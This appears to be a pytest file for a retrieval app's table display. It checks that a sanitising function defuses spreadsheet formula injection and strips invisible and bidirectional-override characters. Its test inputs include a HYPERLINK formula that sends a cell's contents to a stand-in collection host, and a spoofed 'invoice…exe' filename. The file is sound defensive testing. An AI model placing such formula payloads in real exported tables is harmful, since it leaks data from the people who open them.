"""Tables are taken along as CSV; what a document calls itself shall be no formula there."""

import ast
import re
from pathlib import Path

import pytest

from rag.ui.answers import JOINER
from rag.ui.cells import cells

ROOT = Path(__file__).parent.parent.parent


@pytest.mark.parametrize("sign", [*"=+-@\t\n＝＋－＠"])
def test_no_cell_begins_as_a_formula(sign: str) -> None:
    title = f'{sign}HYPERLINK("https://collect.example/?q="&B2)'
    ((name, shown),) = cells([{"title": title}])[0].items()
    assert (name, shown[1:]) == ("title", title)
    assert not shown[0].isprintable(), "nothing of it is seen"


@pytest.mark.parametrize("apart", [";", "\t", "\n", "; ", ';"'])
def test_none_begins_behind_what_another_country_cuts_cells_at(apart: str) -> None:
    (row,) = cells([{"title": f'Rates{apart}=HYPERLINK("https://collect.example")'}])
    assert not re.search(r"[;\t\n]\s*\"?=", row["title"])
    assert row["title"].replace(JOINER, "").startswith(f"Rates{apart}=HYPER")


def test_nothing_unseen_is_in_a_cell() -> None:
    (row,) = cells([{"file": "invoice\u202efdp.exe", "title": "pay\u200bload\u061c\u3164\x1b[31m", "n": 3}])
    assert row == {"file": "invoicefdp.exe", "title": "payload[31m", "n": 3}


def test_other_cells_are_as_they_were() -> None:
    rows = [{"": 3, "score": -0.5, "title": "Travel – 2025", "none": None, "on": True}]
    assert cells(rows) == rows


def test_every_table_on_screen_goes_through_it() -> None:
    calls = [
        node
        for path in sorted((ROOT / "rag/ui").glob("*.py"))
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call) and ast.unparse(node.func) in {"st.dataframe", "st.data_editor"}
    ]
    assert len(calls) >= 10
    assert [ast.unparse(call)[:80] for call in calls if not ast.unparse(call.args[0]).startswith("cells(")] == []
